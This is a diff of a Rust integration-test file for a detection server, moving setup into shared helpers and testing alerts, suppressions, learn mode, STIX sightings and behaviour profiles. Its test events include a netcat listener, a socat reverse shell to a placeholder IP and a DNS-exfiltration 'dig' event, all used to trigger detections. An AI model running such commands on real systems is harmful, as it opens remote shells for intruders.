@@ -6,10 +6,12 @@
 //! PostgreSQL when `OUTPOST_TEST_PG_URL` is set (scripts/test.sh starts one).
 
 use crate::common;
+use crate::common::World;
+use crate::common::world::Builder;
 
 use axum::http::StatusCode;
 use outpost_server::config::ServerConfig;
-use outpost_store::{KeyKind, Store};
+use outpost_store::Store;
 use serde_json::{Value, json};
 
 const RULES: &str = r#"
@@ -81,39 +83,6 @@ const STIX: &str = r#"{
      "source_ref": "intrusion-set--1a2b3c4d-0000-4000-8000-000000000004", "target_ref": "attack-pattern--1a2b3c4d-0000-4000-8000-000000000003"}
   ]}"#;
 
-struct W {
-    app: axum::Router,
-    state: outpost_server::AppState,
-    admin: String,
-    customer: String,
-    tenant: String,
-    device: String,
-    token: String,
-    _dir: tempfile::TempDir,
-}
-
-/// A database for one test: SQLite in `dir`, or a fresh PostgreSQL schema.
-async fn stores(dir: &std::path::Path) -> Vec<(&'static str, Store)> {
-    let s = Store::open_sqlite_dir(dir).await.unwrap();
-    s.migrate().await.unwrap();
-    let mut v = vec![("sqlite", s)];
-    if let Some(url) = outpost_testkit::service("OUTPOST_TEST_PG_URL") {
-        let schema = format!("detection_test_{}", uuid::Uuid::new_v4().simple());
-        let admin = sqlx::PgPool::connect(&url).await.unwrap();
-        sqlx::query(sqlx::AssertSqlSafe(format!("CREATE SCHEMA {schema}")))
-            .execute(&admin)
-            .await
-            .unwrap();
-        let sep = if url.contains('?') { '&' } else { '?' };
-        let s = Store::connect(&format!("{url}{sep}options=-c%20search_path%3D{schema}"))
-            .await
-            .unwrap();
-        s.migrate().await.unwrap();
-        v.push(("postgres", s));
-    }
-    v
-}
-
 /// The configuration of one replica; replicas on one database share the signing key of the
 /// first one (`replica1`).
 fn config(dir: &std::path::Path, data: &std::path::Path) -> ServerConfig {
@@ -128,35 +97,13 @@ fn config(dir: &std::path::Path, data: &std::path::Path) -> ServerConfig {
         "server-{}.toml",
         data.file_name().unwrap().to_string_lossy()
     ));
-    std::fs::write(
-        &path,
-        format!(
-            r#"
-data_dir = {data:?}
-rate_limit_per_s = 0
-[detect]
-rules_dir = {rules:?}
-stix_dir = {stix:?}
-stix_score = 150
-alert_threshold = 100
-[[outputs]]
-name = "siem"
-type = "file"
-path = {siem:?}
-filter = {{ kinds = ["event"] }}
-batch_size = 1
-[detect.profiles]
-learning_secs = 60
-abnormal_score = 120
-sync_secs = 3600
-"#,
-            data = data.display().to_string(),
-            rules = rules.display().to_string(),
-            stix = stix.display().to_string(),
-            siem = data.join("events.jsonl").display().to_string(),
-        ),
-    )
-    .unwrap();
+    let detect = format!("stix_dir = {stix:?}\nstix_score = 150\nalert_threshold = 100");
+    let text = [
+        common::detect_toml(data, &rules, &detect),
+        common::file_output_toml("siem", &data.join("events.jsonl"), &["event"], 1),
+        "[detect.profiles]\nlearning_secs = 60\nabnormal_score = 120\nsync_secs = 3600\n".into(),
+    ];
+    std::fs::write(&path, text.concat()).unwrap();
     let mut cfg = ServerConfig::load(Some(&path)).unwrap();
     let first_key = dir.join("replica1").join(outpost_server::intel::KEY_FILE);
     if first_key.exists() {
@@ -177,48 +124,15 @@ async fn replica(
     (outpost_server::router(state.clone()), state)
 }
 
-async fn world(store: Store) -> W {
-    let dir = tempfile::tempdir().unwrap();
-    let t = store.create_tenant("acme").await.unwrap();
-    let (_, admin) = store.create_key(KeyKind::Admin, None, "").await.unwrap();
-    let (_, customer) = store
-        .create_key(KeyKind::Customer, Some(&t.id), "c")
-        .await
-        .unwrap();
-    let (d, token) = store
-        .create_device(&t.id, "web1", None, None)
-        .await
-        .unwrap();
-    let (app, state) = replica(&store, dir.path(), 1).await;
-    W {
-        app,
-        state,
-        admin,
-        customer,
-        tenant: t.id,
-        device: d.id,
-        token,
-        _dir: dir,
-    }
+/// Tenant acme with device web1, served by replica 1 (on `store` with `world`).
+fn scene<'a>() -> Builder<'a> {
+    World::builder()
+        .tenant("acme", &["web1"])
+        .config(|c, dir| *c = config(dir, &dir.join("replica1")))
 }
 
-async fn call(
-    app: &axum::Router,
-    method: &str,
-    uri: &str,
-    token: &str,
-    body: Option<Value>,
-) -> (StatusCode, Value) {
-    let r = common::request(
-        app,
-        method,
-        uri,
-        Some(token),
-        &[],
-        body.map(|b| b.to_string().into_bytes()),
-    )
-    .await;
-    (r.status, r.json())
+async fn world(store: Store) -> World {
+    scene().store(store).build().await
 }
 
 fn exec(ts: &str, name: &str, args: &[&str], parent: Option<&str>) -> Value {
@@ -230,14 +144,15 @@ fn exec(ts: &str, name: &str, args: &[&str], parent: Option<&str>) -> Value {
 }
 
 async fn post_events(app: &axum::Router, token: &str, batch: &str, events: Vec<Value>) -> Value {
-    let (s, v) = call(
+    let (s, v) = common::call(
         app,
         "POST",
         "/api/v1/events",
-        token,
+        Some(token),
         Some(json!({"batch_id": batch, "events": events})),
     )
-    .await;
+    .await
+    .sv();
     assert_eq!(s, StatusCode::OK, "{v}");
     v
 }
@@ -245,28 +160,29 @@ async fn post_events(app: &axum::Router, token: &str, batch: &str, events: Vec<V
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn event_alerts_have_the_lifecycle_of_hits() {
     let dir = tempfile::tempdir().unwrap();
-    for (name, store) in stores(dir.path()).await {
+    for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
         let events = vec![
             exec("2026-12-01T10:00:00Z", "ls", &["ls"], None),
             exec("2026-12-01T10:00:01Z", "nc", &["nc", "-l", "4444"], None),
         ];
-        let r = post_events(&w.app, &w.token, "e1", events.clone()).await;
+        let r = post_events(&w.app, &w.a().device().token, "e1", events.clone()).await;
         assert_eq!(
             (r["accepted"].as_u64(), r["alerts"].as_u64()),
             (Some(2), Some(1)),
             "{name}: {r}"
         );
         // A retry stores nothing twice.
-        post_events(&w.app, &w.token, "e1", events).await;
-        let (s, page) = call(
-            &w.app,
-            "GET",
-            "/api/v1/alerts?rule=netcat-listener",
-            &w.admin,
-            None,
-        )
-        .await;
+        post_events(&w.app, &w.a().device().token, "e1", events).await;
+        let (s, page) = w
+            .call(
+                "GET",
+                "/api/v1/alerts?rule=netcat-listener",
+                Some(&w.admin),
+                None,
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{page}");
         let items = page["items"].as_array().unwrap();
         assert_eq!(items.len(), 1, "{name}: {page}");
@@ -278,92 +194,102 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
         assert_eq!(a["event"]["process"]["args"][2], "4444");
         let id = a["id"].as_i64().unwrap();
         // The customer sees the simplified alert and may only acknowledge it.
-        let (s, c) = call(
-            &w.app,
-            "GET",
-            &format!("/api/v1/alerts/{id}"),
-            &w.customer,
-            None,
-        )
-        .await;
+        let (s, c) = w
+            .call(
+                "GET",
+                &format!("/api/v1/alerts/{id}"),
+                Some(&w.a().customer),
+                None,
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK);
         assert!(
             c.get("event").is_none() && c.get("indicators").is_none(),
             "{c}"
         );
-        let (s, _) = call(
-            &w.app,
-            "POST",
-            &format!("/api/v1/alerts/{id}/state"),
-            &w.customer,
-            Some(json!({"state": "false_positive"})),
-        )
-        .await;
+        let (s, _) = w
+            .call(
+                "POST",
+                &format!("/api/v1/alerts/{id}/state"),
+                Some(&w.a().customer),
+                Some(json!({"state": "false_positive"})),
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::FORBIDDEN);
-        let (s, v) = call(
-            &w.app,
-            "POST",
-            &format!("/api/v1/alerts/{id}/state"),
-            &w.customer,
-            Some(json!({"state": "acknowledged", "expected_version": 0})),
-        )
-        .await;
+        let (s, v) = w
+            .call(
+                "POST",
+                &format!("/api/v1/alerts/{id}/state"),
+                Some(&w.a().customer),
+                Some(json!({"state": "acknowledged", "expected_version": 0})),
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{v}");
-        let (s, v) = call(
-            &w.app,
-            "POST",
-            &format!("/api/v1/alerts/{id}/state"),
-            &w.admin,
-            Some(json!({"state": "false_positive", "expected_version": 0})),
-        )
-        .await;
+        let (s, v) = w
+            .call(
+                "POST",
+                &format!("/api/v1/alerts/{id}/state"),
+                Some(&w.admin),
+                Some(json!({"state": "false_positive", "expected_version": 0})),
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::CONFLICT, "{name}: {v}");
-        let (s, v) = call(
-            &w.app,
-            "POST",
-            &format!("/api/v1/alerts/{id}/state"),
-            &w.admin,
-            Some(json!({"state": "false_positive", "expected_version": 1, "note": "pentest"})),
-        )
-        .await;
+        let (s, v) = w
+            .call(
+                "POST",
+                &format!("/api/v1/alerts/{id}/state"),
+                Some(&w.admin),
+                Some(json!({"state": "false_positive", "expected_version": 1, "note": "pentest"})),
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{v}");
-        let (_, h) = call(
-            &w.app,
-            "GET",
-            &format!("/api/v1/alerts/{id}/history"),
-            &w.admin,
-            None,
-        )
-        .await;
+        let (_, h) = w
+            .call(
+                "GET",
+                &format!("/api/v1/alerts/{id}/history"),
+                Some(&w.admin),
+                None,
+            )
+            .await
+            .sv();
         let h = h["items"].as_array().unwrap();
         assert_eq!(h.len(), 2);
         assert_eq!(h[1]["to_state"], "false_positive");
         assert_eq!(h[1]["note"], "pentest");
-        let (_, open) = call(&w.app, "GET", "/api/v1/alerts?state=new", &w.admin, None).await;
+        let (_, open) = w
+            .call("GET", "/api/v1/alerts?state=new", Some(&w.admin), None)
+            .await
+            .sv();
         assert!(open["items"].as_array().unwrap().is_empty(), "{open}");
         // A suppression rule narrowed to the rule applies to alerts too.
-        let (s, v) = call(&w.app, "POST", "/api/v1/suppressions", &w.admin, Some(json!({"tenant_id": w.tenant, "rule_name": "netcat-listener", "process_name": "nc"}))).await;
+        let (s, v) = w.call("POST", "/api/v1/suppressions", Some(&w.admin), Some(json!({"tenant_id": w.a().id, "rule_name": "netcat-listener", "process_name": "nc"}))).await.sv();
         assert_eq!(s, StatusCode::CREATED, "{v}");
         let r = post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "e2",
             vec![exec("2026-12-01T11:00:00Z", "nc", &["nc"], None)],
         )
         .await;
         assert_eq!(r["alerts"], 0, "{name}: suppressed: {r}");
-        let (_, sup) = call(
-            &w.app,
-            "GET",
-            "/api/v1/alerts?state=suppressed",
-            &w.admin,
-            None,
-        )
-        .await;
+        let (_, sup) = w
+            .call(
+                "GET",
+                "/api/v1/alerts?state=suppressed",
+                Some(&w.admin),
+                None,
+            )
+            .await
+            .sv();
         assert_eq!(sup["items"].as_array().unwrap().len(), 1, "{sup}");
         let r = post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "e3",
             vec![exec("2026-12-01T11:00:00Z", "ncat", &["ncat"], None)],
         )
@@ -376,17 +302,18 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
             &["socat", "tcp:1.2.3.4:9", "exec:sh"],
             None,
         )];
-        let r = post_events(&w.app, &w.token, "e4", socat.clone()).await;
+        let r = post_events(&w.app, &w.a().device().token, "e4", socat.clone()).await;
         assert_eq!(r["alerts"], 1, "{r}");
-        post_events(&w.app, &w.token, "e4", socat).await;
-        let (s, jobs) = call(
-            &w.app,
-            "GET",
-            &format!("/api/v1/jobs?tenant={}", w.tenant),
-            &w.admin,
-            None,
-        )
-        .await;
+        post_events(&w.app, &w.a().device().token, "e4", socat).await;
+        let (s, jobs) = w
+            .call(
+                "GET",
+                &format!("/api/v1/jobs?tenant={}", w.a().id),
+                Some(&w.admin),
+                None,
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{jobs}");
         let list: Vec<&Value> = jobs
             .as_array()
@@ -396,9 +323,9 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
             .filter(|j| j["kind"] == "process.list")
             .collect();
         assert_eq!(list.len(), 1, "{name}: {jobs}");
-        assert_eq!(list[0]["device_id"], w.device.as_str());
+        assert_eq!(list[0]["device_id"], w.a().device().id.as_str());
         // Its tag action tags the forwarded event.
-        let siem = w._dir.path().join("replica1").join("events.jsonl");
+        let siem = w.dir.path().join("replica1").join("events.jsonl");
         let t0 = std::time::Instant::now();
         let tagged = loop {
             let text = std::fs::read_to_string(&siem).unwrap_or_default();
@@ -423,10 +350,16 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
             tagged[0]
         );
         // Bad filters are clear errors.
-        let (s, v) = call(&w.app, "GET", "/api/v1/alerts?state=bogus", &w.admin, None).await;
+        let (s, v) = w
+            .call("GET", "/api/v1/alerts?state=bogus", Some(&w.admin), None)
+            .await
+            .sv();
         assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
         assert!(v["error"]["message"].as_str().unwrap().contains("bogus"));
-        let (s, _) = call(&w.app, "GET", "/api/v1/alerts/999999", &w.admin, None).await;
+        let (s, _) = w
+            .call("GET", "/api/v1/alerts/999999", Some(&w.admin), None)
+            .await
+            .sv();
         assert_eq!(s, StatusCode::NOT_FOUND);
     }
 }
@@ -434,35 +367,38 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn learn_mode_turns_would_be_alerts_into_suppressions() {
     let dir = tempfile::tempdir().unwrap();
-    for (name, store) in stores(dir.path()).await {
+    for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
-        let (s, v) = call(
-            &w.app,
-            "PUT",
-            "/api/v1/detect/learn",
-            &w.admin,
-            Some(json!({"tenant_id": "acme", "on": true, "hours": 24})),
-        )
-        .await;
+        let (s, v) = w
+            .call(
+                "PUT",
+                "/api/v1/detect/learn",
+                Some(&w.admin),
+                Some(json!({"tenant_id": "acme", "on": true, "hours": 24})),
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{v}");
         assert_eq!(v["learning"], true);
-        let (s, v) = call(
-            &w.app,
-            "PUT",
-            "/api/v1/detect/learn",
-            &w.admin,
-            Some(json!({"tenant_id": "acme", "on": true, "hours": 0})),
-        )
-        .await;
+        let (s, v) = w
+            .call(
+                "PUT",
+                "/api/v1/detect/learn",
+                Some(&w.admin),
+                Some(json!({"tenant_id": "acme", "on": true, "hours": 0})),
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
-        let (s, _) = call(
-            &w.app,
-            "PUT",
-            "/api/v1/detect/learn",
-            &w.customer,
-            Some(json!({"tenant_id": "acme", "on": false})),
-        )
-        .await;
+        let (s, _) = w
+            .call(
+                "PUT",
+                "/api/v1/detect/learn",
+                Some(&w.a().customer),
+                Some(json!({"tenant_id": "acme", "on": false})),
+            )
+            .await
+            .sv();
         assert_eq!(
             s,
             StatusCode::FORBIDDEN,
@@ -470,7 +406,7 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
         );
         let r = post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "l1",
             vec![exec(
                 "2026-12-01T10:00:00Z",
@@ -481,19 +417,23 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
         )
         .await;
         assert_eq!(r["alerts"], 0, "{name}: learned, not alerted: {r}");
-        let (_, learned) = call(&w.app, "GET", "/api/v1/alerts?learned=true", &w.admin, None).await;
+        let (_, learned) = w
+            .call("GET", "/api/v1/alerts?learned=true", Some(&w.admin), None)
+            .await
+            .sv();
         let items = learned["items"].as_array().unwrap();
         assert_eq!(items.len(), 1, "{learned}");
         assert_eq!(items[0]["state"], "suppressed");
         assert_eq!(items[0]["state_changed_by"], "learn-mode");
-        let (s, st) = call(
-            &w.app,
-            "GET",
-            &format!("/api/v1/detect/learn?tenant={}", w.tenant),
-            &w.customer,
-            None,
-        )
-        .await;
+        let (s, st) = w
+            .call(
+                "GET",
+                &format!("/api/v1/detect/learn?tenant={}", w.a().id),
+                Some(&w.a().customer),
+                None,
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{st}");
         // The local rule and the static engine's risky-process entry fired.
         let p = st["proposals"].as_array().unwrap();
@@ -510,24 +450,26 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
             ),
             (Some("nc"), Some(1), Some(false))
         );
-        let (s, created) = call(
-            &w.app,
-            "POST",
-            "/api/v1/detect/learn/apply",
-            &w.admin,
-            Some(json!({"tenant_id": w.tenant})),
-        )
-        .await;
+        let (s, created) = w
+            .call(
+                "POST",
+                "/api/v1/detect/learn/apply",
+                Some(&w.admin),
+                Some(json!({"tenant_id": w.a().id})),
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{created}");
         assert_eq!(created["items"].as_array().unwrap().len(), 2, "{created}");
-        let (_, v) = call(
-            &w.app,
-            "PUT",
-            "/api/v1/detect/learn",
-            &w.admin,
-            Some(json!({"tenant_id": w.tenant, "on": false})),
-        )
-        .await;
+        let (_, v) = w
+            .call(
+                "PUT",
+                "/api/v1/detect/learn",
+                Some(&w.admin),
+                Some(json!({"tenant_id": w.a().id, "on": false})),
+            )
+            .await
+            .sv();
         assert_eq!(v["learning"], false);
         assert!(
             v["proposals"]
@@ -539,7 +481,7 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
         );
         let r = post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "l2",
             vec![exec(
                 "2026-12-01T12:00:00Z",
@@ -555,7 +497,7 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
         );
         let r = post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "l3",
             vec![exec("2026-12-01T12:00:00Z", "ncat", &["ncat"], None)],
         )
@@ -567,7 +509,7 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
     let dir = tempfile::tempdir().unwrap();
-    for (name, store) in stores(dir.path()).await {
+    for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
         let dig = exec(
             "2026-12-01T10:00:00Z",
@@ -577,7 +519,7 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
         );
         let r = post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "s1",
             vec![
                 dig.clone(),
@@ -586,7 +528,10 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
         )
         .await;
         assert_eq!(r["alerts"], 1, "{name}: {r}");
-        let (_, page) = call(&w.app, "GET", "/api/v1/sightings", &w.admin, None).await;
+        let (_, page) = w
+            .call("GET", "/api/v1/sightings", Some(&w.admin), None)
+            .await
+            .sv();
         let items = page["items"].as_array().unwrap();
         assert_eq!(
             items.len(),
@@ -603,7 +548,10 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
         assert_eq!(s["attack"]["attack_patterns"][0]["mitre_id"], "T1048.003");
         assert_eq!(s["attack"]["intrusion_sets"][0]["name"], "Blind RCE crew");
         assert!(!s["observed"].as_array().unwrap().is_empty());
-        let (_, alerts) = call(&w.app, "GET", "/api/v1/alerts", &w.admin, None).await;
+        let (_, alerts) = w
+            .call("GET", "/api/v1/alerts", Some(&w.admin), None)
+            .await
+            .sv();
         let a = &alerts["items"][0];
         assert_eq!(s["alert_id"], a["id"], "the sighting names its alert");
         assert!(
@@ -616,20 +564,31 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
             "{a}"
         );
         // A hit's sample event matches too (stored once, also on a retry).
-        let hit = json!({"batch_id": "h1", "tenant_id": w.tenant, "device_id": w.device, "hostname": "web1",
+        let hit = json!({"batch_id": "h1", "tenant_id": w.a().id, "device_id": w.a().device().id, "hostname": "web1",
             "agent_version": "t", "hotlist_version": "v1", "hits": [{"remote_ip": "203.0.113.5", "remote_port": 53,
             "protocol": "udp", "process_name": "dig", "pid": 77, "first_seen_utc": "2026-12-01T10:00:00Z",
             "last_seen_utc": "2026-12-01T10:00:00Z", "hit_count": 1, "sample_events": [dig]}]});
         for _ in 0..2 {
-            let (st, v) = call(&w.app, "POST", "/api/v1/hits", &w.token, Some(hit.clone())).await;
+            let (st, v) = w
+                .call(
+                    "POST",
+                    "/api/v1/hits",
+                    Some(&w.a().device().token),
+                    Some(hit.clone()),
+                )
+                .await
+                .sv();
             assert_eq!(st, StatusCode::OK, "{v}");
         }
-        let (_, page) = call(&w.app, "GET", &format!("/api/v1/sightings?indicator=indicator--1a2b3c4d-0000-4000-8000-000000000001&device={}", w.device), &w.admin, None).await;
+        let (_, page) = w.call("GET", &format!("/api/v1/sightings?indicator=indicator--1a2b3c4d-0000-4000-8000-000000000001&device={}", w.a().device().id), Some(&w.admin), None).await.sv();
         let items = page["items"].as_array().unwrap();
         assert_eq!(items.len(), 2, "{name}: {page}");
         assert_eq!(items[0]["batch_id"], "hits:h1");
         // The rules status lists the loaded patterns.
-        let (_, st) = call(&w.app, "GET", "/api/v1/detect/rules", &w.admin, None).await;
+        let (_, st) = w
+            .call("GET", "/api/v1/detect/rules", Some(&w.admin), None)
+            .await
+            .sv();
         assert_eq!(st["stix"]["patterns"], 1, "{st}");
     }
 }
@@ -639,14 +598,11 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
 /// them again stores the sighting.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_sighting_the_database_refuses_is_counted_and_its_batch_refused() {
-    let dir = tempfile::tempdir().unwrap();
-    let store = Store::open_sqlite_dir(dir.path()).await.unwrap();
-    store.migrate().await.unwrap();
-    let w = world(store).await;
+    let w = scene().build().await;
     // The real database refuses every sighting (a trigger), the rest of the batch is fine.
     let db = sqlx::SqlitePool::connect(&format!(
         "sqlite://{}",
-        dir.path().join("outpost.db").display()
+        w.dir.path().join("outpost.db").display()
     ))
     .await
     .unwrap();
@@ -663,42 +619,57 @@ async fn a_sighting_the_database_refuses_is_counted_and_its_batch_refused() {
     let batch = json!({"batch_id": "refused", "events": [dig]});
     let failed = || outpost_server::metrics::metrics().sightings_failed.get();
     let before = failed();
-    let (s, v) = call(
-        &w.app,
-        "POST",
-        "/api/v1/events",
-        &w.token,
-        Some(batch.clone()),
-    )
-    .await;
+    let (s, v) = w
+        .call(
+            "POST",
+            "/api/v1/events",
+            Some(&w.a().device().token),
+            Some(batch.clone()),
+        )
+        .await
+        .sv();
     assert!(s.is_server_error(), "{s} {v}");
     assert_eq!(failed() - before, 1, "the refused sighting is counted");
-    let (_, page) = call(&w.app, "GET", "/api/v1/sightings", &w.admin, None).await;
+    let (_, page) = w
+        .call("GET", "/api/v1/sightings", Some(&w.admin), None)
+        .await
+        .sv();
     assert_eq!(page["items"].as_array().unwrap().len(), 0, "{page}");
     // Delivered again once the database takes sightings: stored, nothing counted.
     sqlx::query("DROP TRIGGER refuse_sightings")
         .execute(&db)
         .await
         .unwrap();
-    let (s, v) = call(&w.app, "POST", "/api/v1/events", &w.token, Some(batch)).await;
+    let (s, v) = w
+        .call(
+            "POST",
+            "/api/v1/events",
+            Some(&w.a().device().token),
+            Some(batch),
+        )
+        .await
+        .sv();
     assert_eq!(s, StatusCode::OK, "{v}");
     assert_eq!(failed() - before, 1);
-    let (_, page) = call(&w.app, "GET", "/api/v1/sightings", &w.admin, None).await;
+    let (_, page) = w
+        .call("GET", "/api/v1/sightings", Some(&w.admin), None)
+        .await
+        .sv();
     assert_eq!(page["items"].as_array().unwrap().len(), 1, "{page}");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere() {
     let dir = tempfile::tempdir().unwrap();
-    for (name, store) in stores(dir.path()).await {
+    for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store.clone()).await;
-        let (app_b, state_b) = replica(&store, w._dir.path(), 2).await;
+        let (app_b, state_b) = replica(&store, w.dir.path(), 2).await;
         let prof_a = w.state.scoring.profiles().unwrap().clone();
         let prof_b = state_b.scoring.profiles().unwrap().clone();
         // Replica A learns nginx starting ls during the window (60 s from the first event).
         post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "p1",
             vec![
                 exec(
@@ -721,7 +692,7 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
         // After the window, on replica B: the known child is normal, a shell is a deviation.
         let r = post_events(
             &app_b,
-            &w.token,
+            &w.a().device().token,
             "p2",
             vec![
                 exec(
@@ -740,7 +711,9 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
         )
         .await;
         assert_eq!(r["alerts"], 1, "{name}: {r}");
-        let (_, alerts) = call(&app_b, "GET", "/api/v1/alerts", &w.admin, None).await;
+        let (_, alerts) = common::call(&app_b, "GET", "/api/v1/alerts", Some(&w.admin), None)
+            .await
+            .sv();
         let a = &alerts["items"][0];
         assert_eq!(a["process_name"], "sh", "{a}");
         let ind = a["indicators"]
@@ -763,61 +736,66 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
         );
         // Visible in the API (after B merged its deviation).
         prof_b.sync(&store).await.unwrap();
-        let (s, page) = call(
-            &w.app,
-            "GET",
-            "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
-            &w.customer,
-            None,
-        )
-        .await;
+        let (s, page) = w
+            .call(
+                "GET",
+                "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
+                Some(&w.a().customer),
+                None,
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{page}");
         let p = &page["items"][0];
         assert_eq!(p["children"], json!(["/usr/bin/ls"]), "{name}: {p}");
         assert_eq!(p["status"], "profiled");
         assert_eq!(p["deviations"], 1, "{p}");
-        let (_, all) = call(
-            &w.app,
-            "GET",
-            "/api/v1/profiles?status=profiled",
-            &w.admin,
-            None,
-        )
-        .await;
+        let (_, all) = w
+            .call(
+                "GET",
+                "/api/v1/profiles?status=profiled",
+                Some(&w.admin),
+                None,
+            )
+            .await
+            .sv();
         assert!(all["items"].as_array().unwrap().len() >= 2, "{all}");
         // Reset on B reaches A at its next sync: nginx learns again, the shell is not scored.
-        let (s, _) = call(
+        let (s, _) = common::call(
             &app_b,
             "POST",
             "/api/v1/profiles/reset",
-            &w.customer,
-            Some(json!({"tenant_id": w.tenant, "subject": "exe:/usr/sbin/nginx"})),
+            Some(&w.a().customer),
+            Some(json!({"tenant_id": w.a().id, "subject": "exe:/usr/sbin/nginx"})),
         )
-        .await;
+        .await
+        .sv();
         assert_eq!(s, StatusCode::FORBIDDEN);
-        let (s, v) = call(
+        let (s, v) = common::call(
             &app_b,
             "POST",
             "/api/v1/profiles/reset",
-            &w.admin,
-            Some(json!({"tenant_id": w.tenant, "subject": "exe:/usr/sbin/nginx"})),
+            Some(&w.admin),
+            Some(json!({"tenant_id": w.a().id, "subject": "exe:/usr/sbin/nginx"})),
         )
-        .await;
+        .await
+        .sv();
         assert_eq!(s, StatusCode::OK, "{v}");
         assert_eq!(v["reset"], 1);
-        let (s, _) = call(
+        let (s, _) = common::call(
             &app_b,
             "POST",
             "/api/v1/profiles/reset",
-            &w.admin,
-            Some(json!({"tenant_id": w.tenant, "subject": "exe:/nope"})),
+            Some(&w.admin),
+            Some(json!({"tenant_id": w.a().id, "subject": "exe:/nope"})),
         )
-        .await;
+        .await
+        .sv();
         assert_eq!(s, StatusCode::NOT_FOUND);
         prof_a.sync(&store).await.unwrap();
         let r = post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "p3",
             vec![exec(
                 "2026-12-01T10:10:00Z",
@@ -832,14 +810,15 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
             "{name}: learning again after the reset: {r}"
         );
         prof_a.sync(&store).await.unwrap();
-        let (_, page) = call(
-            &w.app,
-            "GET",
-            "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
-            &w.admin,
-            None,
-        )
-        .await;
+        let (_, page) = w
+            .call(
+                "GET",
+                "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
+                Some(&w.admin),
+                None,
+            )
+            .await
+            .sv();
         let p = &page["items"][0];
         assert_eq!(
             (p["epoch"].as_i64(), p["status"].as_str()),
@@ -857,7 +836,7 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn sigma_correlations_alert_per_tenant() {
     let dir = tempfile::tempdir().unwrap();
-    for (name, store) in stores(dir.path()).await {
+    for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store.clone()).await;
         let beta = store.create_tenant("beta").await.unwrap();
         let (_, beta_token) = store
@@ -877,7 +856,7 @@ async fn sigma_correlations_alert_per_tenant() {
         // Three in acme: the third completes the correlation (beta's two do not count).
         let r = post_events(
             &w.app,
-            &w.token,
+            &w.a().device().token,
             "a1",
             vec![
                 curl("2026-12-01T10:00:10Z"),
@@ -887,19 +866,20 @@ async fn sigma_correlations_alert_per_tenant() {
         )
         .await;
         assert_eq!(r["alerts"], 1, "{name}: {r}");
-        let (s, page) = call(
-            &w.app,
-            "GET",
-            "/api/v1/alerts?rule=9d2c1f00-0000-4000-8000-000000000002",
-            &w.admin,
-            None,
-        )
-        .await;
+        let (s, page) = w
+            .call(
+                "GET",
+                "/api/v1/alerts?rule=9d2c1f00-0000-4000-8000-000000000002",
+                Some(&w.admin),
+                None,
+            )
+            .await
+            .sv();
         assert_eq!(s, StatusCode::OK, "{page}");
         let items = page["items"].as_array().unwrap();
         assert_eq!(items.len(), 1, "{name}: {page}");
         let a = &items[0];
-        assert_eq!(a["tenant_id"], w.tenant.as_str(), "{a}");
+        assert_eq!(a["tenant_id"], w.a().id.as_str(), "{a}");
         assert_eq!(a["risk_score"], 140, "{a}");
         assert!(
             a["event"]["ts"]
